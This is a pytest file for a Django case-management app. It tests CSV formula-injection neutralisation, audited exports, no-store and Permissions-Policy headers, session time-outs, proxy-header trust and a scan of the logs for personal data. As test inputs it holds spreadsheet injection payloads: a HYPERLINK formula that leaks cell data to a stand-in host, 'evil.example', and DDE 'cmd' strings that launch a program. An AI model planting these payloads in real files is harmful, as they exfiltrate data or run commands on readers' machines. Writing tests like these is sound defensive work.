"""Hardening (issue #15): one safe CSV writer for every export (formulas neutralised, every download audited),
Cache-Control: no-store on every signed-in response, Permissions-Policy, the idle and absolute session time-outs,
and X-Forwarded-Proto believed only when configured."""

from __future__ import annotations

import csv
import io
import logging
import re
import time
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from iwp.csv_export import csv_text, neutralise
from iwp.middleware import LAST_SEEN, SIGNED_IN_AT
from iwp.models import AuditEvent, AuditVerb
from provision.models import ImportRun
from tests.factories import TEST_PASSWORD
from tests.iwp.team import claimant_of
from tests.provision.factories import OfferFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


# --- One safe writer --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Helen King", "Helen King"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, 42),
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, True),
    ],
)
def test_the_writer_neutralises_formula_cells_and_leaves_numbers(cell, written):
    assert neutralise(cell) == written


def test_a_neutralised_cell_reads_back_as_the_literal_text():
    text = csv_text([["name"], [HOSTILE], ["+44 7700 900123"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + HOSTILE] and rows[2] == ["'+44 7700 900123"]


def test_no_module_writes_csv_except_through_the_core_writer():
    """Every CSV download goes through iwp.csv_export: a new csv.writer elsewhere fails here."""
    offenders = []
    for package in ("iwp", "claimants", "appointments", "provision"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "csv_export.py" and path.parent.name == "iwp":
                continue
            source = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", source):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"write CSV through iwp.csv_export, not the csv module: {offenders}"


# --- Every export: neutralised and audited ------------------------------------------------------------------------


def _exports(verb=AuditVerb.EXPORTED):
    return list(AuditEvent.objects.filter(verb=verb).order_by("pk"))


def test_the_dashboards_claimant_export_neutralises_names_and_is_audited(leader_client, team_leader, team):
    from tests.factories import WorkCoachFactory

    coach = WorkCoachFactory(team=team)
    claimant_of(coach, first_name=HOSTILE, last_name="+SUM(A1:A2)")
    response = leader_client.get(reverse("iwp:dashboard_export_claimants"))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[1][2] == "'" + HOSTILE and rows[1][3] == "'+SUM(A1:A2)"
    [event] = _exports()
    assert event.actor == team_leader and event.payload["what"] == "claimants"


def test_the_dashboards_figures_export_is_neutralised_and_audited(leader_client, team_leader, team):
    team.name = "=cmd|' /C calc'!A0"
    team.save()
    response = leader_client.get(reverse("iwp:dashboard_export_figures"))
    rows = read_csv(response)
    assert rows[1][0].startswith("'=cmd")
    [event] = _exports()
    assert event.actor == team_leader and event.payload["what"] == "figures" and event.payload["rows"] >= 1


def test_the_provision_export_neutralises_and_is_audited(lead_client, progression_lead, team):
    district = team.jobcentre.district
    OfferFactory(district=district, name=HOSTILE, description="@SUM(1)")
    response = lead_client.get(reverse("provision:export"))
    assert response.status_code == 200
    rows = read_csv(response)
    header = rows[0]
    assert rows[1][header.index("name")] == "'" + HOSTILE
    assert rows[1][header.index("description")] == "'@SUM(1)"
    [event] = _exports()
    assert event.actor == progression_lead
    assert event.payload == {"what": "provision_list", "rows": 1, "district": district.pk, "via": "page"}


def test_the_import_report_export_neutralises_and_is_audited(lead_client, progression_lead, team):
    district = team.jobcentre.district
    run = ImportRun.objects.create(
        district=district,
        actor=progression_lead,
        kind="csv",
        report={"rejected": [{"row": 2, "id": "x1", "name": HOSTILE, "reasons": ["-1 is not an age"]}]},
    )
    response = lead_client.get(reverse("provision:import_report_csv", args=[run.pk]))
    rows = read_csv(response)
    assert rows[1] == ["Rejected", "2", "x1", "'" + HOSTILE, "'-1 is not an age"]
    [event] = _exports()
    assert (event.target_type, event.target_id) == ("provision.importrun", str(run.pk))
    assert event.payload["what"] == "import_report" and event.payload["rows"] == 1


def test_the_export_command_neutralises_and_is_audited(team):
    district = team.jobcentre.district
    OfferFactory(district=district, name=HOSTILE)
    out = io.StringIO()
    call_command("export_provision", "--district", district.name, "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][rows[0].index("name")] == "'" + HOSTILE
    call_command("export_provision", "--district", district.name, stdout=io.StringIO())
    csv_event, oruk_event = _exports()
    assert csv_event.actor is None and csv_event.payload["via"] == "command"
    assert (csv_event.payload["format"], oruk_event.payload["format"]) == ("csv", "oruk")


# --- Headers ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/claimants/",
        "/appointments/diary/",
        "/dashboard/",
        "/dashboard/claimants.csv",
        "/provision/export.csv",
        "/administration/",
        "/administration/audit/",
        "/administration/audit.csv",
        "/api/v1/regime-calculator/",
    ],
)
def test_every_signed_in_response_is_no_store_with_a_permissions_policy(role_clients, url):
    for role, c in role_clients.items():
        response = c.get(url)
        if response.status_code == 404:
            continue
        cache = response.get("Cache-Control", "")
        assert "no-store" in cache and "private" in cache, (role, url, response.status_code, cache)
        assert "camera=()" in response["Permissions-Policy"], (role, url)


def test_a_claimant_record_is_no_store(coach_client, work_coach):
    claimant = claimant_of(work_coach)
    response = coach_client.get(reverse("claimants:record", args=[claimant.pk]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_public_pages_and_static_files_stay_cacheable_with_the_permissions_policy(client):
    statement = client.get(reverse("accessibility"))
    assert statement.status_code == 200 and "no-store" not in statement.get("Cache-Control", "")
    policy = statement["Permissions-Policy"]
    for feature in ("camera=()", "microphone=()", "geolocation=()", "payment=()", "usb=()"):
        assert feature in policy
    sign_in = client.get(reverse("login"))
    assert "Permissions-Policy" in sign_in


# --- Session time-outs ---------------------------------------------------------------------------------------------


def _signed_in(client: Client, user) -> None:
    response = client.post(reverse("login"), {"username": user.username, "password": TEST_PASSWORD})
    assert response.status_code == 302


def _age_session(client: Client, **seconds_ago: int) -> None:
    """Freeze time the other way: move the session's clocks into the past."""
    session = client.session
    now = int(time.time())
    for key, ago in seconds_ago.items():
        session[key] = now - ago
    session.save()


def test_idle_for_the_configured_time_signs_out_with_a_message(client, work_coach, settings):
    settings.IWP_IDLE_TIMEOUT_MINUTES = 30
    _signed_in(client, work_coach)
    assert client.get("/claimants/").status_code == 200
    _age_session(client, **{LAST_SEEN: 29 * 60})
    assert client.get("/claimants/").status_code == 200  # 29 minutes: still signed in
    _age_session(client, **{LAST_SEEN: 30 * 60 + 5})
    response = client.get("/claimants/")
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    sign_in = client.get(response["Location"])
    assert b'data-testid="timed-out"' in sign_in.content
    assert b"You were signed out because you had not used the service for 30 minutes" in sign_in.content
    assert b"timed-out" not in client.get(reverse("login")).content  # said once
    [signed_out] = AuditEvent.objects.filter(verb=AuditVerb.LOGGED_OUT)
    assert signed_out.actor == work_coach and signed_out.payload["reason"] == "idle"
    assert client.get("/claimants/").status_code == 302


def test_the_idle_time_comes_from_the_setting(client, work_coach, settings):
    settings.IWP_IDLE_TIMEOUT_MINUTES = 5
    _signed_in(client, work_coach)
    _age_session(client, **{LAST_SEEN: 5 * 60 + 1})
    assert client.get("/claimants/").status_code == 302
    assert b"for 5 minutes" in client.get(reverse("login")).content


def test_activity_keeps_the_session_but_the_absolute_limit_still_applies(client, work_coach):
    _signed_in(client, work_coach)
    _age_session(client, **{SIGNED_IN_AT: settings.SESSION_COOKIE_AGE - 60, LAST_SEEN: 20 * 60})
    assert client.get("/claimants/").status_code == 200
    assert int(time.time()) - client.session[LAST_SEEN] < 5  # a request counts as activity
    _age_session(client, **{SIGNED_IN_AT: settings.SESSION_COOKIE_AGE + 1})
    response = client.get("/claimants/")
    assert response.status_code == 302
    assert b"had been signed in for 9 hours" in client.get(reverse("login")).content
    assert AuditEvent.objects.get(verb=AuditVerb.LOGGED_OUT).payload["reason"] == "absolute"


def test_a_polling_progress_bar_does_not_count_as_activity(client, administrator):
    from iwp.background import jobs

    job = jobs.job_create(kind="test", description="A job", created_by=administrator)
    _signed_in(client, administrator)
    _age_session(client, **{LAST_SEEN: 10 * 60})
    before = client.session[LAST_SEEN]
    assert client.get(reverse("iwp:job_progress", args=[job.pk])).status_code == 200
    assert client.session[LAST_SEEN] == before
    assert client.get(reverse("iwp:job_detail", args=[job.pk])).status_code == 200
    assert client.session[LAST_SEEN] > before


def test_a_timed_out_api_call_is_refused_not_redirected(client, work_coach):
    _signed_in(client, work_coach)
    _age_session(client, **{LAST_SEEN: settings.IWP_IDLE_TIMEOUT_MINUTES * 60 + 1})
    response = client.post("/api/v1/regime-calculator/", {}, content_type="application/json")
    assert response.status_code in (401, 403)


# --- The proxy header -----------------------------------------------------------------------------------------


def test_x_forwarded_proto_is_not_believed_unless_configured(coach_client, settings):
    def seen_as_secure(**headers) -> bool:
        from django.test import RequestFactory

        return RequestFactory().get("/", **headers).is_secure()

    assert settings.SECURE_PROXY_SSL_HEADER is None
    assert not seen_as_secure(HTTP_X_FORWARDED_PROTO="https")
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    assert seen_as_secure(HTTP_X_FORWARDED_PROTO="https")


# --- The log scan itself (tests/conftest.py) ----------------------------------------------------------------------


def _record(message: str, *args) -> logging.LogRecord:
    return logging.LogRecord("iwp.example", logging.WARNING, __file__, 1, message, args, None)


def test_the_log_scan_finds_ninos_emails_and_claimants_names(request, work_coach):
    from tests.conftest import _LogScan

    helen = claimant_of(work_coach, first_name="Helena", last_name="Kingsley")
    scan = _LogScan()
    for message, args in [
        ("claimant %s saved", (helen.pk,)),
        ("no claimant has NINO %s", ("JK 12 34 56 C",)),
        ("lookup failed for jk123456c", ()),
        ("reminder sent to %s", ("helen.king@example.org",)),
        ("recalculated %s", (helen,)),  # a model's str() is its full name
        ("moved Kingsley, Helena to another coach", ()),
    ]:
        scan.check(_record(message, *args))
    scan.check_names(request.config)
    found = "\n".join(scan.findings)
    assert len(scan.findings) == 5, found
    assert found.count("a National Insurance number") == 2 and "an email address" in found
    assert found.count("logged the claimant Helena Kingsley") == 1 and "Kingsley Helena" in found
    assert "claimant 1 saved" not in found


def test_the_log_scan_is_installed_for_the_run():
    from tests.conftest import _log_scan

    assert logging.Logger.callHandlers is not _log_scan.original
